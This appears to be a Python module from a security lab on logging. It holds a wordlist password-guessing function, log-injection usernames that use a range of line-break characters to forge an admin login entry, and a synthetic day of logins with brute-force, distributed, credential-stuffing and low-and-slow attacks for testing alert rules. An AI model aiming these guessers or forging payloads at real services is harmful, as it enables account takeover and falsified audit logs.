"""Attacks on logs and on what reads them: guessing, forged entries, and a simulated day of logins.

* ``guess_password`` runs a wordlist against a served login service (real HTTP).
* ``forged_admin_username`` builds a username that, pasted into the plain-text login
  log, starts a new line that reads as a successful admin login; ``forge_admin_login``
  sends it to a fresh login service and asks the lesson's log reader what it believes.
* ``simulate_login_day`` is the login log of one (compressed) day at a small company:
  ordinary logins and typos, four attacks and two harmless bursts, with the ground truth
  an alert rule is judged against.
"""

from __future__ import annotations

import io
import random
import secrets
from collections.abc import Callable, Iterable, Mapping
from dataclasses import dataclass
from functools import cached_property
from logging import Logger
from typing import Any

from seclab.attacks import AttackResult
from seclab.server import http_request
from seclab.topics.logging.targets import (
    ADMIN_USER,
    COMMON_PASSWORDS,
    Audit,
    create_login_app,
    forged_admin_logins,
    read_login_log,
    stream_logger,
)

# --- guessing a password --------------------------------------------------------------------

def guess_password(base_url: str, username: str, wordlist: Iterable[str] = COMMON_PASSWORDS) -> AttackResult:
    """POST /login with every password of ``wordlist`` until one works."""
    tried = 0
    for password in wordlist:
        tried += 1
        reply = http_request("POST", f"{base_url}/login", json_body={"username": username, "password": password})
        if reply.status == 200:
            return AttackResult(password, True, f"logged in as {username} after {tried} guesses")
    return AttackResult("", False, f"none of {tried} guesses worked")


# --- forging a log line ---------------------------------------------------------------------

#: The characters a reader that splits with ``str.splitlines()`` starts a new line at.
LINE_BREAKS = {
    "LF": "\n", "CR LF": "\r\n", "CR": "\r", "VT": "\x0b", "FF": "\x0c", "FS": "\x1c", "GS": "\x1d",
    "RS": "\x1e", "NEL (U+0085)": "\x85", "LINE SEPARATOR (U+2028)": "\u2028",
    "PARAGRAPH SEPARATOR (U+2029)": "\u2029",
}

#: When the forged entry claims the admin logged in (any well-formed time will do).
FORGED_TIME = "2025-06-01T03:14:15Z"


def forged_admin_username(separator: str = "\n", cover: str = "nobody", fake_ip: str = "203.0.113.9") -> str:
    """A username that ends its own log line (pointing at ``fake_ip``) and starts a forged one.

    The vulnerable line is ``<time> INFO login failure user=<username> ip=<real ip>``;
    this username turns it into two entries: a failure of ``cover`` from ``fake_ip``, and
    ``<FORGED_TIME> INFO login success user=admin ip=<real ip>``.
    """
    return f"{cover} ip={fake_ip}{separator}{FORGED_TIME} INFO login success user={ADMIN_USER}"


#: One forging payload per line break.
FORGING_PAYLOADS = {name: forged_admin_username(separator) for name, separator in LINE_BREAKS.items()}


def forge_admin_login(audit_factory: Callable[[Logger], Audit], username: str) -> AttackResult:
    """Fail one login as ``username`` on a fresh login service logging through ``audit_factory``.

    ``succeeded`` when the lesson's log reader (``read_login_log``) then finds a
    successful admin login in the log; ``evidence`` is the log text.
    """
    stream = io.StringIO()
    logger = stream_logger(stream)
    client = create_login_app(audit_factory(logger), {ADMIN_USER: secrets.token_urlsafe(12)}).test_client()
    reply = client.post("/login", json={"username": username, "password": secrets.token_urlsafe(16)})
    text = stream.getvalue()
    forged = forged_admin_logins(read_login_log(text))
    return AttackResult(username, reply.status_code == 401 and bool(forged), text)


# --- a simulated day of logins --------------------------------------------------------------

@dataclass(frozen=True)
class Scenario:
    """One source of traffic in the simulated day, with the ips and users it used."""

    name: str
    malicious: bool
    description: str
    ips: frozenset[str]
    users: frozenset[str]


@dataclass(frozen=True)
class LoginDay:
    """The events of the day (sorted by ts) and the scenarios that produced them."""

    events: list[dict[str, Any]]
    scenarios: list[Scenario]

    def scenario_of(self, alert: Mapping[str, Any]) -> Scenario:
        """The scenario an alert points at: the one that sent the failure that raised it.

        For "ip" and "stuffing" alerts the key is that address; for a "user" alert it is
        the address of that user's failure at the alert's time.
        """
        ip = self._failure_ips.get((alert["ts"], alert["key"]), "") if alert["kind"] == "user" else alert["key"]
        for scenario in self.scenarios:
            if ip in scenario.ips:
                return scenario
        raise KeyError(f"no scenario sent the failure behind {alert['kind']} alert {alert['key']!r}")

    @cached_property
    def _failure_ips(self) -> dict[tuple[Any, str], str]:
        return {(event["ts"], event["user"]): event["ip"] for event in self.events if not event["ok"]}

    @property
    def attacks(self) -> list[Scenario]:
        return [scenario for scenario in self.scenarios if scenario.malicious]


_STAFF = ["amira", "ben", "chloe", "dmitri", "elena", "fatima", "george", "hana", "ivan", "jana", "kofi", "lena",
          "marco", "nadia", "oscar", "priya", "quinn", "rosa", "sami", "tara", "umar", "vera", "wen", "xavier",
          "yara", "zoe", "aaron", "bianca", "carlos", "dana", "emil", "frida", "gita", "hugo", "ines", "jonas",
          "kira", "liam", "mei", "nils", "olga", "pablo", "rahel", "sven", "tomas", "ulla", "vikram", "wanda"]
_OFFICE = ["office." + name for name in ["ada", "blake", "cyrus", "dora", "eli", "faye", "gus", "hedy", "ike",
                                         "jude", "kai", "lou", "max", "nell", "otto", "pia", "ray", "sue", "ted",
                                         "una", "val", "wes", "yves", "zed"]]
_ATTACK_ON = {"brute": ADMIN_USER, "distributed": "carol", "slow": "bob"}
_STUFFED_REAL = ["dmitri", "fatima", "george", "kofi", "nadia", "sami", "vera", "jonas", "mei", "olga"]
_STUFFED_CRACKED = ["dmitri", "fatima", "george"]


def _quarter(value: float) -> float:
    """Round to a quarter second: exact in binary, so window arithmetic is exact too."""
    return round(value * 4) / 4


def simulate_login_day(seed: int = 9) -> LoginDay:
    """One day of logins (ts = seconds since midnight UTC) with four attacks and two benign bursts.

    Attacks: brute force (one ip against admin), distributed guessing (60 ips, two tries
    each, against carol), credential stuffing (one ip, 140 usernames from a leak, three of
    which still work) and a low-and-slow guesser (one try every five minutes against bob).
    Benign: an office whose 24 staff share one NAT address, all logging in (with typos)
    after a forced password change, and a phone app retrying an old password.
    """
    rng = random.Random(seed)  # a seeded simulation, not a secret  # nosec B311
    events: list[dict[str, Any]] = []

    def add(ts: float, ip: str, user: str, ok: bool) -> None:
        events.append({"ts": _quarter(ts), "ip": ip, "user": user, "ok": ok})

    home = {user: f"198.51.100.{number + 10}" for number, user in enumerate(_STAFF)}
    for user in _STAFF:
        for _ in range(rng.randint(1, 3)):
            start = rng.uniform(7 * 3600, 22 * 3600)
            for typo in range(rng.choice([0] * 7 + [1, 1, 2])):
                add(start - 8 * (typo + 1) - rng.uniform(0, 5), home[user], user, False)
            add(start, home[user], user, True)

    brute_ip = "203.0.113.66"
    for attempt in range(90):
        add(2 * 3600 + 13 * 60 + 2 * attempt, brute_ip, _ATTACK_ON["brute"], False)

    botnet = [f"2001:db8:bad::{number:x}" for number in range(1, 61)]
    for attempt in range(120):
        add(4 * 3600 + 40 * 60 + 5 * attempt, botnet[attempt % 60], _ATTACK_ON["distributed"], False)

    stuffing_ip = "203.0.113.200"
    leaked = [f"{rng.choice(_STAFF + ['j', 'm', 's'])}{rng.randint(10, 99)}" for _ in range(130)] + _STUFFED_REAL
    leaked = list(dict.fromkeys(leaked))
    rng.shuffle(leaked)
    for number, user in enumerate(leaked):
        add(14 * 3600 + 5 * 60 + 0.75 * number, stuffing_ip, user, user in _STUFFED_CRACKED)

    slow_ip = "203.0.113.50"
    for attempt in range(120):
        add(6 * 3600 + 300 * attempt, slow_ip, _ATTACK_ON["slow"], False)

    office_ip = "192.0.2.10"
    for user in _OFFICE:
        start = 9 * 3600 + rng.uniform(0, 150)
        for typo in range(rng.randint(1, 3)):
            add(start + 6 * typo, office_ip, user, False)
        add(start + 20, office_ip, user, True)

    phone_ip = "192.0.2.77"
    for attempt in range(8):
        add(18 * 3600 + 30 * 60 + 0.5 * attempt, phone_ip, "hana", False)

    events.sort(key=lambda event: event["ts"])
    scenarios = [
        Scenario("brute force", True, "one ip tries 90 passwords for admin, one every 2 s",
                 frozenset({brute_ip}), frozenset({_ATTACK_ON["brute"]})),
        Scenario("distributed guessing", True, "60 ips take turns guessing carol's password, one try every 5 s",
                 frozenset(botnet), frozenset({_ATTACK_ON["distributed"]})),
        Scenario("credential stuffing", True, f"one ip tries {len(leaked)} leaked username/password pairs, "
                 f"{len(_STUFFED_CRACKED)} still work", frozenset({stuffing_ip}), frozenset()),
        Scenario("low and slow", True, "one ip guesses bob's password once every 5 minutes for 10 hours",
                 frozenset({slow_ip}), frozenset({_ATTACK_ON["slow"]})),
        Scenario("office after a password change", False, "24 colleagues behind one NAT address log in at 09:00, "
                 "with typos", frozenset({office_ip}), frozenset(_OFFICE)),
        Scenario("phone retrying an old password", False, "hana's phone app retries 8 times in 4 s",
                 frozenset({phone_ip}), frozenset({"hana"})),
        Scenario("everyday logins", False, "48 people logging in, some with a typo or two",
                 frozenset(home.values()), frozenset(_STAFF)),
    ]
    return LoginDay(events, scenarios)


def stuffing_successes(day: LoginDay, alerts: Iterable[Mapping[str, Any]]) -> list[str]:
    """Users who logged in successfully from an ip that has a "stuffing" alert."""
    flagged = {alert["key"] for alert in alerts if alert["kind"] == "stuffing"}
    return sorted({event["user"] for event in day.events if event["ok"] and event["ip"] in flagged})
